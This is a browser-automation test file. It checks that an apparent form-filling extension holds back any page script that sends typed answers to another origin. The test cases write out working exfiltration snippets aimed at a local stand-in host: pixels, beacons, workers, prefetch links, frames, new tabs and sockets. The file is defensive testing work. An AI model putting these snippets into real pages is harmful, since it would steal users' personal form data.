import { createServer, type Server } from 'node:http';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Page } from '@playwright/test';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { answerSocket } from '../attacks/stage/answer-socket';
import { type LabBrowser, launchLab, tabIdOf } from '../harness/lab';

const answers = ['Ada', 'Lovelace', 'ada@example.org'];

const page = `<!doctype html><title>Apply</title>
<form><label>First name <input id="given"></label><label>Last name <input id="family"></label>
<label>E-mail <input id="mail" type="email"></label></form>
<button id="go" type="button">Show</button>
<script>
  const said = () => [...document.querySelectorAll('input')].map(({ value }) => value).join('&');
  const post = (url, body = '') => fetch(url, { method: 'POST', mode: 'no-cors', body }).catch(() => undefined);
  document.querySelector('#mail').addEventListener('change', () => window.act?.());
  document.querySelector('#go').addEventListener('click', () => window.act?.());
  window.dedicated = new Worker('/worker.js');
  window.shared = new SharedWorker('/worker.js');
  shared.port.start();
  navigator.serviceWorker.register('/worker.js').then(() => navigator.serviceWorker.ready).then(({ active }) => { window.service = active; });
</script>`;

const worker = `const socket = new WebSocket('ws://' + location.host);
// A path goes over the socket, which only filling closes; an address is fetched.
const send = ({ data: [url, body] }) => url.startsWith('/') ? socket.send(body) : fetch(url, { method: 'POST', mode: 'no-cors', body }).catch(() => undefined);
onmessage = send;
onconnect = ({ ports: [port] }) => { port.onmessage = send; };`;

/** A page that asks another site for what it needs, at once. */
const pageOfOthers = () => `<!doctype html><title>News</title><script src="${elsewhere}/script"></script>
<iframe sandbox="allow-scripts" srcdoc="<script>fetch('${elsewhere}/from-a-frame', { mode: 'no-cors' })</script>"></iframe>`;

let lab: LabBrowser;
let tab: Page;
let server: Server;
let origin: string;
let elsewhere: string;
let received: string[] = [];

beforeAll(async () => {
  server = createServer((request, response) => {
    const { method, url = '' } = request;
    request.resume().on('end', () => {
      if (!/^\/(?:form|worker\.js.*|favicon\.ico)$/.test(url)) received.push(`${method} ${url.replace(/\?.*/, '')}`);
      const isScript = url.startsWith('/worker.js');
      const markup = url === '/of-others' ? pageOfOthers() : page;
      response.setHeader('content-type', isScript ? 'text/javascript' : 'text/html').end(isScript ? worker : markup);
    });
  });
  server.on('upgrade', (request, socket) => answerSocket(request, socket, (text) => received.push(text)));
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  const port = typeof address === 'object' ? address?.port : '';
  origin = `http://127.0.0.1:${port}`;
  elsewhere = `http://localhost:${port}`;
  lab = await launchLab();
  tab = await lab.context.newPage();
});
afterAll(async () => {
  await lab.close();
  server.closeAllConnections();
  server.close();
});
beforeEach(async () => {
  await tab.goto(`${origin}/form`);
  await tab.waitForFunction(() => Reflect.get(window, 'service') !== undefined);
  received = [];
});

const onAct = (body: string) => tab.evaluate((text) => Object.assign(window, { act: new Function(text) }), body);
const actNow = () => tab.evaluate(() => Reflect.get(window, 'act')());

/** Fills the form as a run does, and leaves it to its user. */
async function fillForm(): Promise<number> {
  const held = await lab.worker.evaluate(
    async ([id, values]) => {
      const driven = globalThis.lab.drive(id);
      const heldBefore = driven.heldBack();
      const form = await globalThis.lab.form(id);
      const lock = await form.lockSubmits();
      const fields = (await form.readForms()).forms.flatMap(({ reading }) => reading.fields);
      for (const [index, value] of values.entries()) {
        const field = fields[index];
        if (field) await form.fillField(0, field, { key: null, value });
      }
      await new Promise((resolve) => setTimeout(resolve, 500));
      await lock.release();
      await driven.release();
      return driven.heldBack() - heldBefore;
    },
    [await tabIdOf(lab, tab), answers] as const,
  );
  return held;
}

const endHold = async () => {
  await lab.worker.evaluate((id) => globalThis.lab.drive(id).end(), await tabIdOf(lab, tab));
};

describe('what carries answers to another origin', () => {
  it.each([
    ['a picture', () => `new Image().src = '${elsewhere}/pixel?d=' + btoa(said())`],
    ['a path', () => `new Image().src = '${elsewhere}/' + encodeURIComponent(said())`],
    ['a beacon', () => `navigator.sendBeacon('${elsewhere}/b', said())`],
    ['a dedicated worker', () => `dedicated.postMessage(['${elsewhere}/w', said()])`],
    ['a shared worker', () => `shared.port.postMessage(['${elsewhere}/s', said()])`],
    ['a service worker', () => `service.postMessage(['${elsewhere}/sw', said()])`],
    [
      'a page fetched ahead',
      () =>
        `document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: '${elsewhere}/p?' + said() }))`,
    ],
    ['a new tab', () => `window.open('${elsewhere}/tab?' + said())`],
    ['a new tab without its opener', () => `window.open('${elsewhere}/tab?' + said(), '_blank', 'noopener')`],
    [
      'a frame',
      () =>
        `document.body.append(Object.assign(document.createElement('iframe'), { src: '${elsewhere}/f?' + said() }))`,
    ],
  ])('is held in %s', async (_, script) => {
    await onAct(script());
    await fillForm();
    expect(received).toEqual([]);
    await endHold();
  });
});

describe('a socket that was open before', () => {
  const open = () => tab.evaluate(() => ['live', 'own'].map((name) => Reflect.get(window, name).readyState));

  it('carries nothing from the first answer on, and is opened again once its user has touched the page', async () => {
    await tab.evaluate(async () => {
      const connect = () => {
        const live = Object.assign(new WebSocket(`ws://${location.host}`), { onclose: () => setTimeout(connect, 200) });
        Object.assign(window, { live });
      };
      connect();
      // As scripts of third parties do, which look at what goes over sockets.
      class Watched extends WebSocket {}
      Object.assign(window, { own: new Watched(`ws://${location.host}`) });
      Object.assign(window, { WebSocket: Watched });
    });
    await expect.poll(open).toEqual([WebSocket.OPEN, WebSocket.OPEN]);
    await onAct(`for (const one of [live, own]) if (one.readyState === 1) one.send(said());
      for (const one of [dedicated, shared.port, service]) one.postMessage(['/', said()]);`);
    await fillForm();
    await actNow();
    await sleep(500);
    expect(received).toEqual([]);
    expect(await open()).not.toContain(WebSocket.OPEN);
    await tab.locator('#go').click();
    await expect.poll(open).toEqual([WebSocket.OPEN, WebSocket.CLOSED]);
    await endHold();
  });
});

describe('a socket of another kind that was open before', () => {
  it('is closed as well, whatever words it would carry the answers in', async () => {
    await tab.evaluate(`(async () => {
      const { writable } = await new WebSocketStream('ws://' + location.host).opened;
      window.writer = writable.getWriter();
    })()`);
    const send = `writer.write([...said()].toReversed().join('')).catch(() => undefined)`;
    await onAct(send);
    await fillForm();
    await actNow();
    await sleep(500);
    expect(received).toEqual([]);
    await endHold();
  });
});

describe('a tab that its user opens while a form is held', () => {
  it('loses nothing of what its page asks other sites for', async () => {
    await fillForm();
    const ids = await lab.worker.evaluate(async (url) => {
      const opened = [];
      for (let count = 0; count < 8; count += 1) opened.push(await chrome.tabs.create({ url, active: false }));
      return opened.flatMap(({ id }) => id ?? []);
    }, `${origin}/of-others`);
    const all = ids.flatMap(() => ['GET /from-a-frame', 'GET /of-others', 'GET /script']).toSorted();
    await expect.poll(() => received.toSorted(), { timeout: 20_000 }).toEqual(all);
    await lab.worker.evaluate((opened) => chrome.tabs.remove(opened), ids);
    await endHold();
  });
});

describe('after the run', () => {
  it('is held until its user has touched the page, whose own press counts at once', async () => {
    await onAct(`post('/api/submit', said())`);
    expect(await fillForm()).toBe(1);
    await actNow();
    await sleep(500);
    expect(received).toEqual([]);
    await tab.locator('#go').click();
    await expect.poll(() => received).toEqual(['POST /api/submit']);
    const isAttached = async () => lab.worker.evaluate((id) => globalThis.lab.isAttached(id), await tabIdOf(lab, tab));
    await expect.poll(isAttached).toBe(false);
  });
});

describe('a run that reads', () => {
  // A tab in which nothing was filled.
  beforeAll(async () => {
    tab = await lab.context.newPage();
  });

  /** Presses the button of the page as a run does, and answers with what came in. */
  async function press(body: string): Promise<string[]> {
    await onAct(body);
    await lab.worker.evaluate(
      async (id) => globalThis.lab.drive(id).press({ selector: '#go' }, { purpose: 'explore' }),
      await tabIdOf(lab, tab),
    );
    await sleep(300);
    await endHold();
    return received.toSorted();
  }

  it('lets pass what reads', async () => {
    expect(
      await press(`post('/api/search', '{"q":"nurse"}');
        post('/graphql', '{"operationName":"JobList","query":"query JobList { jobs { id } }"}');
        post('/track', '{"event":"row"}');
        fetch('${elsewhere}/api/jobs', { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"page":2}' }).catch(() => undefined);`),
    ).toEqual(['OPTIONS /api/jobs', 'POST /api/search', 'POST /graphql', 'POST /track']);
  });

  it('holds what applies, saves, deletes and signs out', async () => {
    expect(
      await press(`post('/jobs/42/apply'); post('/api/saveJob', '{"id":42}');
        post('/graphql', '{"query":"mutation ApplyToJob { apply(id: 42) { id } }"}');
        fetch('/jobs/42', { method: 'DELETE' }).catch(() => undefined);
        fetch('/jobs/42', { method: 'PUT' }).catch(() => undefined);
        fetch('/logout').catch(() => undefined); shared.port.postMessage(['${origin}/jobs/42/apply', '']);
        service.postMessage(['${origin}/jobs/42/apply', '']); location = '/users/sign_out';`),
    ).toEqual([]);
  });

  it('holds the tabs it opens while its user looks at another one, and lets theirs load', async () => {
    const users = await lab.context.newPage();
    await users.bringToFront();
    const open = `window.open('${elsewhere}/read?' + said()); window.open('/read-too', '_blank', 'noopener')`;
    expect(await press(`${open}; setTimeout(() => window.open('/read-too'), 100)`)).toEqual([]);
    expect(lab.context.pages().map((one) => one.url())).not.toContain(`${origin}/read-too`);
    await users.goto(`${origin}/of-their-own`);
    expect(received).toEqual(['GET /of-their-own']);
    await users.close();
  });

  it('gives a shared worker that begins meanwhile no script, and no time after it either', async () => {
    const begin =
      "const late = new SharedWorker('/worker.js?late'); late.port.start(); late.port.postMessage(['/jobs/42/apply', ''])";
    expect(await press(begin)).toEqual([]);
    await sleep(1_000);
    expect(received).toEqual([]);
  });
});
